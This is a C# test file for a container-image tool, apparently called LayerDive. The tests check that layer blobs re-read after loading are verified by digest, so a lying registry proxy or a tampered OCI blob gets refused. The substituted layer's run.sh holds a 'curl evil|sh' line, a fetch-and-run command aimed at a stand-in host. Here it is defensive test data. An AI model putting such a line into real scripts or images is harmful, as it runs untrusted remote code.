using System.Text;
using LayerDive.Core;
using LayerDive.Core.Loading;
using LayerDive.Samples;
using LayerDive.Tests.Support;

namespace LayerDive.Tests;

/// <summary>
/// cat, extract and the viewer read a layer a second time, after the load: that read is verified as
/// the first was. A registry that answers the second GET of a blob with other bytes (a valid gzip
/// layer with another run.sh, padded with zeros to the blob's length), and an OCI layout whose layer
/// blob is altered after the load (one byte flipped), are refused with a digest error and nothing is
/// written: no byte on stdout, nothing in the extraction folder, nothing kept in the viewer's file.
/// </summary>
[Collection("registry")]
public sealed class VerifiedRereadTests(RegistryServices registries) : IDisposable
{
    private readonly TempDir _dir = new();

    private const string Script = "#!/bin/sh\necho hello\n";
    private const string Evil = "#!/bin/sh\ncurl evil|sh\n";

    /// <summary>A script and 4 KB that gzip cannot shrink (so the evil layer fits in the blob's length).</summary>
    private static ImageBuilder Image(string script) => new ImageBuilder().Layer("script", l => l
        .Dir("bin").File("bin/run.sh", script, mode: 0x1ED).File("bin/noise", Noise()));

    private static byte[] Noise()
    {
        var b = new byte[4096];
        new Random(24).NextBytes(b);
        return b;
    }

    private static Dictionary<string, string> Env() => EngineEnv.With(
        ("DOCKER_HOST", "unix:///nonexistent/docker.sock"), ("CONTAINER_HOST", "unix:///nonexistent/podman.sock"), ("LAYERDIVE_REGISTRY_TIMEOUT", "5"));

    /// <summary>layerdive in-process with stdout as bytes (a pipe: it cannot seek).</summary>
    private static (int Code, byte[] Stdout, string Stderr) Run(params string[] args)
    {
        var bytes = new MemoryStream();
        var stdout = new StringWriter { NewLine = "\n" };
        var stderr = new StringWriter { NewLine = "\n" };
        var env = Env();
        var context = new LayerDive.Cli.CliContext(stdout, stderr, n => env.TryGetValue(n, out var v) ? v : n is "PATH" or "HOME" or "LAYERDIVE_CACHE" ? Environment.GetEnvironmentVariable(n) : null, Environment.CurrentDirectory)
        { RawOut = () => new PipeStream(bytes) };
        int code = LayerDive.Cli.CommandLine.Run(args, context);
        return (code, [.. Encoding.UTF8.GetBytes(stdout.ToString()), .. bytes.ToArray()], stderr.ToString());
    }

    /// <summary>The image pushed (its gzip layer as ImageBuilder wrote it), and a proxy that serves other bytes for that layer from its second GET on.</summary>
    private (string Repository, string Digest, SwitchingProxy Proxy) Lying(string name)
    {
        var layout = _dir.File(name + "-layout");
        var image = Image(Script);
        image.WriteOciLayout(layout);
        var repository = registries.Push(registries.Anonymous, $"oci:{layout}:latest", "reread/" + name + ":1");
        using var manifest = registries.Manifest(registries.Anonymous, "reread/" + name, "1");
        var layer = manifest.RootElement.GetProperty("layers")[0];
        var blob = layer.GetProperty("digest").GetString()!;
        long size = layer.GetProperty("size").GetInt64();
        // the evil layer: a valid gzip of a tar with another run.sh, then zeros (gzip skips them in silence) to the same length
        var evil = ImageBuilder.Compress(new LayerBuilder().Dir("bin").File("bin/run.sh", Evil, mode: 0x1ED).ToTar(), LayerCompression.Gzip).Bytes;
        Assert.True(evil.Length < size, $"the evil layer ({evil.Length} B) must fit in the blob ({size} B)");
        var other = new byte[size];
        evil.CopyTo(other, 0);
        var proxy = new SwitchingProxy(registries.Anonymous, blob, other);
        using var http = new HttpClient();
        using var request = new HttpRequestMessage(HttpMethod.Head, $"http://127.0.0.1:{registries.Anonymous}/v2/reread/{name}/manifests/1");
        request.Headers.Accept.ParseAdd("application/vnd.oci.image.manifest.v1+json");
        using var response = http.Send(request);
        return (repository, response.Headers.GetValues("Docker-Content-Digest").Single(), proxy);
    }

    [Theory]
    [InlineData("tag")]
    [InlineData("digest")]
    public void Cat_from_a_registry_that_answers_the_second_read_with_other_bytes_is_refused_and_prints_nothing(string reference)
    {
        if (registries.SkipReason is { } why) Assert.Skip(why);
        var (repository, digest, proxy) = Lying("cat-" + reference);
        using (proxy)
        {
            var name = $"registry://127.0.0.1:{proxy.Port}/" + (reference == "tag" ? repository : repository.Split(':')[0] + "@" + digest);
            // the point is the second read: the load reads the blob, with the cache off
            var (code, stdout, stderr) = Run("cat", "--no-cache", name, "/bin/run.sh");
            Assert.True(proxy.Served >= 2, $"the layer was read {proxy.Served} times: {stderr}");
            Assert.Equal(2, code);
            Assert.Empty(stdout);
            var line = Assert.Single(stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
            Assert.StartsWith($"layerdive: error: {name}: layer 0 (sha256:", line);
            Assert.Contains("blob digest mismatch", line);
        }
    }

    [Theory]
    [InlineData("tag")]
    [InlineData("digest")]
    public void Extract_from_a_registry_that_answers_the_second_read_with_other_bytes_is_refused_and_writes_nothing(string reference)
    {
        if (registries.SkipReason is { } why) Assert.Skip(why);
        var (repository, digest, proxy) = Lying("extract-" + reference);
        using (proxy)
        {
            var name = $"registry://127.0.0.1:{proxy.Port}/" + (reference == "tag" ? repository : repository.Split(':')[0] + "@" + digest);
            var output = _dir.File("out-" + reference);
            // the point is the second read: the load reads the blob, with the cache off
            var (code, stdout, stderr) = Run("extract", "--no-cache", name, "/", "--output", output);
            Assert.Equal(2, code);
            Assert.Empty(stdout);
            var line = Assert.Single(stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
            Assert.Contains("blob digest mismatch", line);
            Assert.False(Directory.Exists(output) && Directory.EnumerateFileSystemEntries(output, "*", SearchOption.AllDirectories).Any(),
                "extract left: " + (Directory.Exists(output) ? string.Join(", ", Directory.EnumerateFileSystemEntries(output, "*", SearchOption.AllDirectories)) : ""));
            // into a folder that exists: it is left as it was
            Directory.CreateDirectory(output);
            File.WriteAllText(Path.Combine(output, "mine"), "kept");
            (code, _, stderr) = Run("extract", "--no-cache", name, "/bin/run.sh", "--output", output);
            Assert.Equal(2, code);
            Assert.Contains("blob digest mismatch", stderr);
            Assert.Equal([Path.Combine(output, "mine")], Directory.EnumerateFileSystemEntries(output, "*", SearchOption.AllDirectories));
        }
    }

    [Fact]
    public void The_viewer_on_a_registry_that_answers_the_second_read_with_other_bytes_keeps_nothing()
    {
        if (registries.SkipReason is { } why) Assert.Skip(why);
        var (repository, _, proxy) = Lying("viewer");
        using (proxy)
        {
            var options = new LoadOptions { Source = EngineEnv.Options(Env()) };
            using var load = ImageLoader.Start($"registry://127.0.0.1:{proxy.Port}/{repository}", options, TestContext.Current.CancellationToken);
            load.Wait();
            var version = FileContent.Locate(load.Model, "/bin/run.sh", 0);
            var file = new MemoryStream();
            file.Write("what the viewer had"u8);
            var ex = Assert.Throws<ImageException>(() => FileContent.Copy(load, version, file, TestContext.Current.CancellationToken));
            Assert.Contains("blob digest mismatch", ex.Message);
            Assert.Equal("what the viewer had", Encoding.UTF8.GetString(file.ToArray()));
        }
    }

    [Fact]
    public void A_second_read_of_the_true_bytes_is_served()
    {
        if (registries.SkipReason is { } why) Assert.Skip(why);
        var layout = _dir.File("true-layout");
        Image(Script).WriteOciLayout(layout);
        var repository = registries.Push(registries.Anonymous, $"oci:{layout}:latest", "reread/true:1");
        var (code, stdout, stderr) = Run("cat", $"registry://127.0.0.1:{registries.Anonymous}/{repository}", "/bin/run.sh");
        Assert.True(code == 0, stderr);
        Assert.Equal(Script, Encoding.UTF8.GetString(stdout));
    }

    /// <summary>An OCI layout loaded, then its layer blob altered in place (same size, one byte flipped) before the second read.</summary>
    [Theory]
    [InlineData(LayerCompression.Gzip)]
    [InlineData(LayerCompression.None)]
    public void A_layout_whose_blob_changes_after_the_load_is_refused_by_the_viewer_and_extract(LayerCompression compression)
    {
        var layout = _dir.File("layout-" + compression);
        var image = Image(Script);
        image.WriteOciLayout(layout, compression: compression);
        var blob = Path.Combine(layout, "blobs", "sha256", image.Build(compression).Layers[0].Digest[7..]);
        using var load = ImageLoader.Start(layout, new LoadOptions(), TestContext.Current.CancellationToken);
        load.Wait();
        var version = FileContent.Locate(load.Model, "/bin/run.sh", 0);
        var bytes = File.ReadAllBytes(blob);
        // a byte no decoder checks, so that the layer still reads and only its digest tells: gzip's OS byte
        // (RFC 1952), or a byte of the noise file's data in a tar
        int at = compression == LayerCompression.None ? 512 * 4 + 100 : 9;
        bytes[at] ^= 0x01;
        File.WriteAllBytes(blob, bytes);

        var file = new MemoryStream();
        var ex = Assert.Throws<ImageException>(() => FileContent.Copy(load, version, file, TestContext.Current.CancellationToken));
        Assert.Contains("blob digest mismatch", ex.Message);
        Assert.Equal(0, file.Length);

        var output = _dir.File("x-" + compression);
        ex = Assert.Throws<ImageException>(() => Extractor.Extract(load, "/", 0, output, TestContext.Current.CancellationToken));
        Assert.Contains("blob digest mismatch", ex.Message);
        Assert.False(Directory.Exists(output), "extract left " + output);
    }

    public void Dispose() => _dir.Dispose();

}
